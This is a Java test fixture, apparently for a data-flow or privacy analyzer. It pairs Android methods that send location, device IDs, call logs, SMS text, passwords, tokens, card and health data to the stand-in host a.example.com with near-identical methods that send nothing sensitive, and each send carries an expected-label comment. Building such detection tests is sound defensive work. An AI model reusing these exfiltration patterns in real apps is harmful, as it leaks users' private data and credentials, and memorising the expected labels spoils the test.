// Each sort of source with several ways; beside each, a way that ends before.
package flows;

import android.accounts.Account;
import android.accounts.AccountManager;
import android.content.ContentResolver;
import android.content.SharedPreferences;
import android.database.Cursor;
import android.location.Location;
import android.location.LocationListener;
import android.location.LocationManager;
import android.provider.CallLog;
import android.telephony.SmsMessage;
import android.telephony.TelephonyManager;
import android.util.Base64;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.google.gson.JsonObject;
import com.stripe.android.model.CardParams;
import java.io.BufferedOutputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.OutputStream;
import java.io.OutputStreamWriter;
import java.io.PrintWriter;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.HttpURLConnection;
import java.net.InetAddress;
import java.net.PasswordAuthentication;
import java.net.Socket;
import java.net.URL;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import javax.crypto.Cipher;
import javax.crypto.SecretKey;
import okhttp3.Credentials;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;

class Device implements LocationListener {
    private final OkHttpClient client = new OkHttpClient();
    private SecretKey key;
    private Cipher prepared;
    private String line = "";
    private String greeting = "hello";
    private final List<String> queue = new ArrayList<>();

    // Location

    @Override
    public void onLocationChanged(Location here) {
        line = here.getLatitude() + "," + here.getLongitude();
    }

    void flush() throws IOException {
        new Socket("a.example.com", 1).getOutputStream().write(line.getBytes()); // carries: location
    }

    void greet() throws IOException {
        new Socket("a.example.com", 1).getOutputStream().write(greeting.getBytes()); // carries: nothing
    }

    void known(LocationManager manager) throws IOException {
        Location last = manager.getLastKnownLocation("gps");
        OutputStream out = new BufferedOutputStream(new Socket("a.example.com", 1).getOutputStream()); // carries: location
        out.write(String.format("%f", last.getLatitude()).getBytes());
    }

    void knownNot(LocationManager manager) throws IOException {
        Location last = manager.getLastKnownLocation("gps");
        OutputStream out = new BufferedOutputStream(new Socket("a.example.com", 1).getOutputStream()); // carries: nothing
        out.write(String.format("%b", last == null).getBytes());
    }

    void datagram(Location here) throws IOException {
        byte[] data = here.toString().getBytes(StandardCharsets.UTF_8);
        DatagramSocket socket = new DatagramSocket();
        socket.send(new DatagramPacket(data, data.length, InetAddress.getByName("a.example.com"), 9)); // carries: location
    }

    void datagramNot(Location here) throws IOException {
        byte[] data = "hello".getBytes(StandardCharsets.UTF_8);
        DatagramSocket socket = new DatagramSocket();
        socket.send(new DatagramPacket(data, data.length, InetAddress.getByName("a.example.com"), 9)); // carries: nothing
    }

    void buffer(Location here) throws IOException {
        ByteBuffer buffer = ByteBuffer.allocate(64);
        buffer.putDouble(here.getLatitude());
        new Socket("a.example.com", 1).getOutputStream().write(buffer.array()); // carries: location
    }

    void bufferNot(Location here) throws IOException {
        ByteBuffer buffer = ByteBuffer.allocate(64);
        buffer.putDouble(3.5);
        new Socket("a.example.com", 1).getOutputStream().write(buffer.array()); // carries: nothing
    }

    // Device

    void imei(TelephonyManager telephony) throws IOException {
        JsonObject body = new JsonObject();
        body.addProperty("id", telephony.getImei());
        new Socket("a.example.com", 1).getOutputStream().write(body.toString().getBytes()); // carries: device
    }

    void imeiNot(TelephonyManager telephony) throws IOException {
        JsonObject body = new JsonObject();
        body.addProperty("id", telephony.getPhoneCount());
        new Socket("a.example.com", 1).getOutputStream().write(body.toString().getBytes()); // carries: nothing
    }

    void number(TelephonyManager telephony) throws IOException {
        Map<String, String> form = new HashMap<>();
        form.put("from", telephony.getLine1Number());
        form.put("to", "support");
        new Socket("a.example.com", 1).getOutputStream().write(form.get("from").getBytes()); // carries: device
    }

    void numberNot(TelephonyManager telephony) throws IOException {
        Map<String, String> form = new HashMap<>();
        form.put("from", telephony.getLine1Number());
        form.put("to", "support");
        new Socket("a.example.com", 1).getOutputStream().write(form.get("to").getBytes()); // carries: nothing
    }

    void coded(TelephonyManager telephony) throws IOException {
        String text = Base64.encodeToString(telephony.getDeviceId().getBytes(), Base64.DEFAULT);
        new Socket("a.example.com", 1).getOutputStream().write(text.getBytes()); // carries: device
    }

    void hidden(TelephonyManager telephony) throws Exception {
        Cipher cipher = Cipher.getInstance("AES/GCM/NoPadding");
        cipher.init(Cipher.ENCRYPT_MODE, key);
        byte[] text = cipher.doFinal(telephony.getDeviceId().getBytes());
        new Socket("a.example.com", 1).getOutputStream().write(text); // carries: nothing
    }

    // Contacts and messages

    void calls(ContentResolver resolver) throws IOException {
        Cursor rows = resolver.query(CallLog.Calls.CONTENT_URI, null, null, null, null);
        PrintWriter out = new PrintWriter(new OutputStreamWriter(new Socket("a.example.com", 1).getOutputStream())); // carries: contacts
        while (rows.moveToNext()) {
            out.println(rows.getString(1));
        }
    }

    void callsNot(ContentResolver resolver) throws IOException {
        Cursor rows = resolver.query(CallLog.Calls.CONTENT_URI, null, null, null, null);
        PrintWriter out = new PrintWriter(new OutputStreamWriter(new Socket("a.example.com", 1).getOutputStream())); // carries: nothing
        while (rows.moveToNext()) {
            out.println("one more");
        }
    }

    void sms(byte[] pdu) throws IOException {
        SmsMessage message = SmsMessage.createFromPdu(pdu, "3gpp");
        StringBuilder text = new StringBuilder("sms ");
        text.append(message.getMessageBody());
        new Socket("a.example.com", 1).getOutputStream().write(text.toString().getBytes()); // carries: messages
    }

    void smsNot(byte[] pdu) throws IOException {
        SmsMessage message = SmsMessage.createFromPdu(pdu, "3gpp");
        StringBuilder text = new StringBuilder("sms ");
        text.append(message.getTimestampMillis() > 0);
        new Socket("a.example.com", 1).getOutputStream().write(text.toString().getBytes()); // carries: nothing
    }

    // Credentials

    void account(AccountManager manager, Account account) throws IOException {
        queue.add(manager.getPassword(account));
        DataOutputStream out = new DataOutputStream(new Socket("a.example.com", 1).getOutputStream()); // carries: credentials
        for (String one : queue) out.writeUTF(one);
    }

    void accountNot(AccountManager manager, Account account) throws IOException {
        List<String> others = new ArrayList<>();
        others.add(manager.getPassword(account));
        List<String> sent = new ArrayList<>();
        sent.add("hello");
        DataOutputStream out = new DataOutputStream(new Socket("a.example.com", 1).getOutputStream()); // carries: nothing
        for (String one : sent) out.writeUTF(one);
    }

    void asked(PasswordAuthentication asked) throws IOException {
        String text = asked.getUserName() + ":" + new String(asked.getPassword());
        new Socket("a.example.com", 1).getOutputStream().write(text.getBytes()); // carries: credentials
    }

    void askedNot(PasswordAuthentication asked) throws IOException {
        String text = asked == null ? "nobody" : "somebody";
        new Socket("a.example.com", 1).getOutputStream().write(text.getBytes()); // carries: nothing
    }

    void bearer(String session) throws IOException {
        Request request = new Request.Builder().url("http://a.example.com/").addHeader("Authorization", "Bearer " + session).build();
        client.newCall(request).execute(); // carries: credentials
    }

    void bearerNot(String session) throws IOException {
        Request request = new Request.Builder().url("http://a.example.com/").addHeader("Accept-Language", "de").build();
        client.newCall(request).execute(); // carries: nothing
    }

    void posted(String password) throws IOException {
        RequestBody body = RequestBody.create(MediaType.get("text/plain"), "p=" + password);
        client.newCall(new Request.Builder().url("http://a.example.com/").post(body).build()).execute(); // carries: credentials?
    }

    void postedNot(String password) throws IOException {
        RequestBody body = RequestBody.create(MediaType.get("text/plain"), "p=" + password.length());
        client.newCall(new Request.Builder().url("http://a.example.com/").post(body).build()).execute(); // carries: nothing
    }

    void user(String name) throws IOException {
        new URL("http://admin:" + name + "@a.example.com/").openStream().read(); // carries: credentials
    }

    void userNot(String name) throws IOException {
        new URL("http://a.example.com/" + name).openStream().read(); // carries: nothing
    }

    void saved(SharedPreferences preferences) throws IOException {
        String value = preferences.getString("refresh_token", "");
        HttpURLConnection connection = (HttpURLConnection) new URL("http://a.example.com/").openConnection(); // carries: credentials?
        connection.getOutputStream().write(value.getBytes());
    }

    void savedNot(SharedPreferences preferences) throws IOException {
        String value = preferences.getString("language", "");
        HttpURLConnection connection = (HttpURLConnection) new URL("http://a.example.com/").openConnection(); // carries: nothing
        connection.getOutputStream().write(value.getBytes());
    }

    // Payment, health, personal

    void card(CardParams card) throws IOException {
        String text = new ObjectMapper().writeValueAsString(card);
        new Socket("a.example.com", 1).getOutputStream().write(text.getBytes()); // carries: payment
    }

    void cardNot(CardParams card) throws IOException {
        String text = new ObjectMapper().writeValueAsString("thanks");
        new Socket("a.example.com", 1).getOutputStream().write(text.getBytes()); // carries: nothing
    }

    void order(Order order) throws IOException {
        String text = new ObjectMapper().writeValueAsString(order);
        new Socket("a.example.com", 1).getOutputStream().write(text.getBytes()); // carries: payment?
    }

    void orderNot(Order order) throws IOException {
        String text = new ObjectMapper().writeValueAsString(order.getArticle());
        new Socket("a.example.com", 1).getOutputStream().write(text.getBytes()); // carries: nothing
    }

    void patient(Patient patient) throws IOException {
        ObjectOutputStream out = new ObjectOutputStream(new Socket("a.example.com", 1).getOutputStream()); // carries: health
        out.writeObject(patient.finding);
    }

    void patientNot(Patient patient) throws IOException {
        ObjectOutputStream out = new ObjectOutputStream(new Socket("a.example.com", 1).getOutputStream()); // carries: nothing
        out.writeObject(patient.ward);
    }

    void born(String dateOfBirth) throws IOException {
        String[] parts = dateOfBirth.split("-");
        new Socket("a.example.com", 1).getOutputStream().write(parts[0].getBytes()); // carries: personal?
    }

    void bornNot(String dateOfBirth) throws IOException {
        boolean given = dateOfBirth.isEmpty();
        new Socket("a.example.com", 1).getOutputStream().write(String.valueOf(given).getBytes()); // carries: nothing
    }

    void collected(Location here) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream inner = new DataOutputStream(bytes);
        inner.writeDouble(here.getLatitude());
        new Socket("a.example.com", 1).getOutputStream().write(bytes.toByteArray()); // carries: location
    }

    void collectedNot(Location here) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream inner = new DataOutputStream(bytes);
        inner.writeDouble(1.5);
        new Socket("a.example.com", 1).getOutputStream().write(bytes.toByteArray()); // carries: nothing
    }

    void through(Location here) throws IOException {
        deliver("a.example.com", wrapped(here.toString()));
    }

    void throughNot(Location here) throws IOException {
        deliverQuietly("a.example.com", wrapped("home"));
    }

    private static String wrapped(String text) {
        return "<" + text + ">";
    }

    private static void deliver(String host, String text) throws IOException {
        new Socket(host, 1).getOutputStream().write(text.getBytes()); // carries: location
    }

    private static void deliverQuietly(String host, String text) throws IOException {
        new Socket(host, 1).getOutputStream().write(text.getBytes()); // carries: nothing
    }
}

class Order {
    private String article;
    private String cardNumber;

    String getArticle() {
        return article;
    }

    String getCardNumber() {
        return cardNumber;
    }
}

@interface HealthData {}

class Patient {
    @HealthData String finding;
    String ward;
}
